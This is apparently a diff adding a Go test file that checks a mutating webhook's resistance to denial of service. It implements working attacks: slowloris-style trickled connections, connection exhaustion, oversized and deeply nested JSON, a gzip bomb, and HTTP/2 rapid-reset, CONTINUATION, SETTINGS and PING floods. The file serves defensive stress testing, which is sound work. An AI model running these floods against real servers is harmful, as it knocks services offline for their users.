@@ -1,0 +1,318 @@
+package denial_test
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/rand"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// attack is something that somebody does to the webhook as often as he can, until
+// its context is done.
+type attack struct {
+	name string
+	// attackers do it at the same time.
+	attackers int
+	// atLeast is how often it is done before it is taken to have had its effect.
+	atLeast int64
+	// makes says whether it gets as far as a request. If not, a certificate makes no
+	// difference.
+	makes request
+	run   func(context.Context, *strike)
+}
+
+// request says whether an attack makes requests to mutate.
+type request bool
+
+const (
+	connections request = false
+	requests    request = true
+)
+
+// limit is that of a body.
+const limit = 7 << 20
+
+func attacks() []attack {
+	pad := func(size int) string { return strings.Repeat("x", size-1024) }
+	list := func(item string, size int) string { return item + strings.Repeat(","+item, (size-1024)/(len(item)+1)) }
+	var bomb bytes.Buffer
+	compressor := gzip.NewWriter(&bomb)
+	_, _ = compressor.Write(bytes.Repeat([]byte(" "), 64<<20))
+	_ = compressor.Close()
+	return []attack{
+		{"none", 1, 0, requests, func(ctx context.Context, _ *strike) { <-ctx.Done() }},
+		{"handshakes that do not end", 1000, 1500, connections, hold(nil, []byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3})},
+		{"10,000 idle TCP connections", 32, 10000, connections, idle(plain, 10000/32+1)},
+		{"10,000 idle TLS connections", 32, 10000, connections, idle(asHTTP1, 10000/32+1)},
+		{"headers that do not end", 500, 600, connections, hold(asHTTP1, []byte("POST /mutate HTTP/1.1\r\nHost: webhook\r\nX-Header: "))},
+		{"bodies that do not end", 500, 1000, requests, hold(asHTTP1, append([]byte(header(limit, "")), bytes.Repeat([]byte(" "), 64<<10)...))},
+		{"bodies that end late", 500, 1000, requests, hold(asHTTP1, append([]byte(header(limit, "")), bytes.Repeat([]byte(" "), limit-1)...))},
+		{"bodies at the limit", 32, 64, requests, post(reviewOf(`{"serviceAccountName":"app","containers":[{"name":"a","env":[{"name":"A","value":"`+pad(limit)+`"}]}]}`), "")},
+		{"bodies above the limit", 32, 64, requests, post(bytes.Repeat([]byte(" "), limit+1), "")},
+		{"containers without end", 32, 64, requests, post(reviewOf(`{"serviceAccountName":"app","containers":[`+list(`{}`, limit)+`]}`), "")},
+		{"as many containers as pass", 32, 64, requests, post(reviewOf(`{"serviceAccountName":"app","containers":[`+list(`{}`, 3*9900)+`]}`), "")},
+		{"variables without end", 32, 64, requests, post(reviewOf(`{"serviceAccountName":"app","containers":[{"name":"a","env":[`+list(`{"name":"AWS_A","value":"a"}`, limit)+`]}]}`), "")},
+		{"annotations without end", 32, 64, requests, post(annotated(limit), "")},
+		{"members without end", 32, 64, requests, post(reviewOf(`{"serviceAccountName":"app","x":{`+list(`"f:name":{}`, limit)+`}}`), "")},
+		{"JSON that is too deep", 32, 64, requests, post(reviewOf(`{"serviceAccountName":`+strings.Repeat("[", limit-1024)), "")},
+		{"JSON that is deep", 32, 64, requests, post(reviewOf(`{"x":`+strings.Repeat(strings.Repeat("[", 9000)+strings.Repeat("]", 9000)+`,"x":`, limit/18100)+`1}`), "")},
+		{"a compressed body", 32, 64, requests, post(bomb.Bytes(), "Content-Encoding: gzip\r\n")},
+		{"a header without end", 32, 100, connections, send(asHTTP1, []byte("GET /healthz HTTP/1.1\r\nHost: webhook\r\nX-Header: "+strings.Repeat("x", 1<<20)))},
+		{"TLS garbage", 32, 1000, connections, send(nil, nil)},
+		{"plain HTTP", 32, 1000, connections, send(nil, []byte("GET /healthz HTTP/1.1\r\nHost: webhook\r\n\r\n"))},
+		{"handshakes one after the other", 8, 500, connections, handshakes},
+		{"HTTP/2 rapid reset", 16, 5000, requests, frames(rapidReset)},
+		{"HTTP/2 CONTINUATION flood", 16, 1000, connections, frames(continuations)},
+		{"HTTP/2 SETTINGS flood", 16, 5000, connections, frames(settings)},
+		{"HTTP/2 PING flood", 16, 5000, connections, frames(pings)},
+		{"HTTP/2 frames that do not end", 1000, 1500, connections, frames(largeFrames)},
+		{"HTTP/2 streams without end", 100, 100, requests, frames(openStreams)},
+	}
+}
+
+func annotated(size int) []byte {
+	var annotations strings.Builder
+	for i := 0; annotations.Len() < size-1024; i++ {
+		fmt.Fprintf(&annotations, `"%x":"",`, i)
+	}
+	return bytes.Replace(reviewOf(smallSpec), []byte(`"metadata":{`), []byte(`"metadata":{"annotations":{`+annotations.String()+`"a":""},`), 1)
+}
+
+// connect opens a connection; asHTTP1 one over TLS.
+type connect func(context.Context, *strike) (net.Conn, error)
+
+func asHTTP1(ctx context.Context, s *strike) (net.Conn, error) { return s.dialTLS(ctx, "http/1.1") }
+
+func plain(ctx context.Context, s *strike) (net.Conn, error) { return s.dial(ctx) }
+
+func header(length int, more string) string {
+	return fmt.Sprintf("POST /mutate?timeout=10s HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s\r\n", length, more)
+}
+
+// trickle is how often one who does not end sends a byte.
+const trickle = 500 * time.Millisecond
+
+// hold opens a connection, sends a beginning and then a byte now and then until the
+// webhook closes the connection, and begins again.
+func hold(connect connect, beginning []byte) func(context.Context, *strike) {
+	if connect == nil {
+		connect = plain
+	}
+	return func(ctx context.Context, s *strike) {
+		for ctx.Err() == nil {
+			conn, err := connect(ctx, s)
+			s.attempts.Add(1)
+			if err != nil {
+				continue
+			}
+			go drip(conn, beginning)
+			_, _ = io.Copy(io.Discard, conn)
+			_ = conn.Close()
+		}
+	}
+}
+
+// idle opens n connections and does nothing with them.
+func idle(connect connect, n int) func(context.Context, *strike) {
+	return func(ctx context.Context, s *strike) {
+		for range n {
+			if _, err := connect(ctx, s); err == nil {
+				s.attempts.Add(1)
+			}
+		}
+		<-ctx.Done()
+	}
+}
+
+func drip(conn net.Conn, beginning []byte) {
+	if _, err := conn.Write(beginning); err != nil {
+		return
+	}
+	pace := time.NewTicker(trickle)
+	defer pace.Stop()
+	for range pace.C {
+		if _, err := conn.Write([]byte(" ")); err != nil {
+			return
+		}
+	}
+}
+
+// send opens a connection, sends what there is, or random bytes, and reads what
+// comes back.
+func send(connect connect, content []byte) func(context.Context, *strike) {
+	if connect == nil {
+		connect = plain
+	}
+	return func(ctx context.Context, s *strike) {
+		for ctx.Err() == nil {
+			conn, err := connect(ctx, s)
+			s.attempts.Add(1)
+			if err != nil {
+				continue
+			}
+			content := content
+			if content == nil {
+				content = make([]byte, 4096)
+				_, _ = rand.Read(content)
+			}
+			_ = conn.SetDeadline(time.Now().Add(time.Second))
+			_, _ = conn.Write(content)
+			_, _ = conn.Read(make([]byte, 4096))
+			_ = conn.Close()
+		}
+	}
+}
+
+// handshakes makes the webhook do the work of many.
+func handshakes(ctx context.Context, s *strike) {
+	for ctx.Err() == nil {
+		if conn, err := asHTTP1(ctx, s); err == nil {
+			s.attempts.Add(1)
+			_ = conn.Close()
+		}
+	}
+}
+
+// post sends a body over and over.
+func post(body []byte, more string) func(context.Context, *strike) {
+	head := []byte(header(len(body), more))
+	return func(ctx context.Context, s *strike) {
+		answer := make([]byte, 64<<10)
+		for ctx.Err() == nil {
+			conn, err := asHTTP1(ctx, s)
+			s.attempts.Add(1)
+			if err != nil {
+				continue
+			}
+			_, _ = conn.Write(head)
+			_, _ = conn.Write(body)
+			for {
+				if _, err := conn.Read(answer); err != nil || !bytes.HasPrefix(answer, []byte("HTTP/1.1 200")) {
+					break
+				}
+			}
+			_ = conn.Close()
+		}
+	}
+}
+
+// frames opens an HTTP/2 connection and sends frames until it breaks, and begins
+// again. What the webhook says is not listened to, but by attacks that say so.
+func frames(flood func(ctx context.Context, s *strike, framer *http2.Framer, conn net.Conn) error) func(context.Context, *strike) {
+	return func(ctx context.Context, s *strike) {
+		for ctx.Err() == nil {
+			conn, err := s.dialTLS(ctx, "h2")
+			if err != nil {
+				s.attempts.Add(1)
+				continue
+			}
+			framer := http2.NewFramer(conn, conn)
+			framer.AllowIllegalWrites = true
+			_, _ = io.WriteString(conn, http2.ClientPreface)
+			_ = framer.WriteSettings()
+			for err == nil {
+				s.attempts.Add(1)
+				err = flood(ctx, s, framer, conn)
+			}
+			_ = conn.Close()
+		}
+	}
+}
+
+// fields are the header of a request to mutate, in HPACK.
+func fields() []byte {
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	for _, field := range [][2]string{
+		{":method", "POST"}, {":scheme", "https"}, {":authority", "webhook"}, {":path", "/mutate"}, {"content-type", "application/json"},
+	} {
+		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
+	}
+	return block.Bytes()
+}
+
+const streamsOfOneConnection = 100_000
+
+func rapidReset(ctx context.Context, s *strike, framer *http2.Framer, conn net.Conn) error {
+	go func() { _, _ = io.Copy(io.Discard, conn) }()
+	header := fields()
+	for id := uint32(1); id < streamsOfOneConnection; id += 2 {
+		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header, EndHeaders: true}); err != nil {
+			return err
+		}
+		if err := framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+			return err
+		}
+		s.attempts.Add(1)
+	}
+	return io.EOF
+}
+
+func continuations(_ context.Context, s *strike, framer *http2.Framer, _ net.Conn) error {
+	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields()}); err != nil {
+		return err
+	}
+	var block bytes.Buffer
+	_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 8<<10), Sensitive: true})
+	for {
+		s.attempts.Add(1)
+		if err := framer.WriteContinuation(1, false, block.Bytes()); err != nil {
+			return err
+		}
+	}
+}
+
+func settings(_ context.Context, _ *strike, framer *http2.Framer, _ net.Conn) error {
+	return framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
+}
+
+func pings(_ context.Context, _ *strike, framer *http2.Framer, _ net.Conn) error {
+	return framer.WritePing(false, [8]byte{})
+}
+
+// largeFrames sends all but the end of a frame as large as Go takes by default, and
+// waits for the end of the connection.
+func largeFrames(_ context.Context, _ *strike, framer *http2.Framer, conn net.Conn) error {
+	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(), EndHeaders: true}); err != nil {
+		return err
+	}
+	const length = 1 << 20
+	head := binary.BigEndian.AppendUint32(nil, length<<8) // 24 bits of length, type DATA
+	head = append(head, 0, 0, 0, 0, 1)
+	if _, err := conn.Write(append(head, make([]byte, length-1)...)); err != nil {
+		return err
+	}
+	_, err := io.Copy(io.Discard, conn)
+	if err == nil {
+		err = io.EOF
+	}
+	return err
+}
+
+// openStreams opens as many streams as it may, sends as much as it may on each, and
+// leaves them open.
+func openStreams(_ context.Context, _ *strike, framer *http2.Framer, conn net.Conn) error {
+	for stream := range uint32(100) {
+		id := 2*stream + 1
+		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields(), EndHeaders: true}); err != nil {
+			return err
+		}
+		if err := framer.WriteData(id, false, make([]byte, 640)); err != nil {
+			return err
+		}
+	}
+	_, err := io.Copy(io.Discard, conn)
+	if err == nil {
+		err = io.EOF
+	}
+	return err
+}
